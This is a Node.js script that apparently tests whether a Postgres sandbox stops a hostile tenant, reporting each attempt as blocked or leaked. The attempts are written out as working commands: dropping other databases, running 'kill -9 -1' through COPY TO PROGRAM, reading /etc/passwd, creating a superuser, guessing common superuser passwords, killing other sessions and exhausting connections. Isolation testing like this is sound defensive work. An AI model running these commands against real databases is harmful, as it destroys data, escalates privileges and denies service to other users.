// Tries to leave its own database and to become a superuser; says what it got.
import pg from 'pg';

const url = new URL(process.env.DATABASE_URL);
const found = [];
const blocked = [];
async function attempt(what, fn) {
  try {
    await fn();
    found.push(what);
  } catch (error) {
    blocked.push(`${what}: ${error.message}`);
  }
}
async function withClient(connectionString, fn) {
  const client = new pg.Client({ connectionString, connectionTimeoutMillis: 3000 });
  await client.connect();
  try {
    return await fn(client);
  } finally {
    await client.end().catch(() => undefined);
  }
}
const urlFor = (database, user = url.username, password = url.password) => {
  const other = new URL(url);
  other.pathname = `/${database}`;
  other.username = user;
  other.password = password;
  return other.toString();
};

const own = url.pathname.slice(1);
const databases = await withClient(url.toString(), async (c) => (await c.query('SELECT datname FROM pg_database WHERE datallowconn')).rows.map((r) => r.datname));
for (const database of databases.filter((d) => d !== own)) {
  await attempt(`connecting to database ${database}`, () => withClient(urlFor(database), (c) => c.query('SELECT 1')));
}
await withClient(url.toString(), async (c) => {
  for (const database of databases.filter((d) => d !== own)) {
    await attempt(`DROP DATABASE ${database}`, () => c.query(`DROP DATABASE "${database}"`));
    await attempt(`ALTER DATABASE ${database}`, () => c.query(`ALTER DATABASE "${database}" CONNECTION LIMIT 0`));
  }
  await attempt('ALTER SYSTEM', () => c.query(`ALTER SYSTEM SET max_connections = 3`));
  await attempt('COPY TO PROGRAM', () => c.query(`COPY (SELECT 1) TO PROGRAM 'kill -9 -1'`));
  await attempt('pg_read_file', () => c.query(`SELECT pg_read_file('/etc/passwd')`));
  await attempt('CREATE ROLE', () => c.query(`CREATE ROLE hostile SUPERUSER LOGIN PASSWORD 'x'`));
  await attempt('ALTER ROLE SUPERUSER', () => c.query(`ALTER ROLE CURRENT_USER SUPERUSER`));
  await attempt('CREATE DATABASE', () => c.query(`CREATE DATABASE hostile`));
  const { rows } = await c.query(`SELECT count(pg_terminate_backend(pid))::int AS n FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND usename <> current_user`).catch(() => ({ rows: [{ n: 0 }] }));
  if (rows[0].n > 0) found.push(`terminating ${rows[0].n} backends of other roles`);
  else blocked.push('terminating backends of other roles: none terminated');
});
for (const password of ['postgres', 'password', 'grader', 'secret', '']) {
  await attempt(`superuser login with password '${password}'`, () => withClient(urlFor('postgres', 'postgres', password), (c) => c.query('SELECT 1')));
}
const clients = [];
let opened = 0;
let refusal = 'none';
for (let i = 0; i < 300; i++) {
  const client = new pg.Client({ connectionString: url.toString(), connectionTimeoutMillis: 3000 });
  try {
    await client.connect();
    clients.push(client);
    opened += 1;
  } catch (error) {
    refusal = error.message;
    break;
  }
}
await Promise.all(clients.map((c) => c.end().catch(() => undefined)));
(opened >= 300 ? found : blocked).push(`opening 300 connections: ${opened} opened, then ${refusal}`);

for (const line of blocked) console.log(`blocked: ${line}`);
for (const line of found) console.log(`LEAKED: ${line}`);
console.log(`hostile: database-escape got ${found.length} of ${found.length + blocked.length} (${found.length === 0 ? 'all blocked' : `leaked ${found.join(', ')}`})`);
process.exit(3);
